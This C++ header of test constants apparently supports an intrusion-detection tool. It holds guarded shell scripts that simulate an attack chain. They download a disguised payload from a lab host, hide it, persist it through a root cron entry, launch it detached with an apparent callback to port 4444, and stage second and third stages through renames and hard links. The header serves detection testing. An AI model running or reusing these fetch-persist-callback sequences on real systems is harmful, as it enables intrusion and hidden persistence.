// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

// What happens to a victim: harmless look-alikes of an intrusion, as scripts.
namespace metsuke::test {

/// Behind a command: it goes on by itself.
inline constexpr const char* kRun = " >/dev/null 2>&1 </dev/null &";

/// Fetches a program by another program, hides and persists it.
inline constexpr const char* kFetchingScript = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o home/.u.part http://10.78.0.2:8080/logo.png
mv home/.u.part home/.update
chmod +x home/.update
printf '* * * * * root %s/home/.update\n' "$METSUKE_SIM_ROOT" >> etc/cron.d/upd
setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
exit 0
)sh";

/// Unpacks and renames the second stage, which fetches the third under names of its own.
inline constexpr const char* kFirstStage = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o home/pack.tar http://10.78.0.2:8081/pack.tar
mkdir work
tar -xf home/pack.tar -C work
mv work/second.sh work/b
mv work/b work/c
ln work/c home/.second
rm work/c
exec home/.second
)sh";
inline constexpr const char* kSecondStage = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o home/t.part http://10.78.0.2:8080/third
mv home/t.part home/t
chmod +x home/t
ln home/t home/.svc
rm home/t
setsid home/.svc tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
exit 0
)sh";

} // namespace metsuke::test
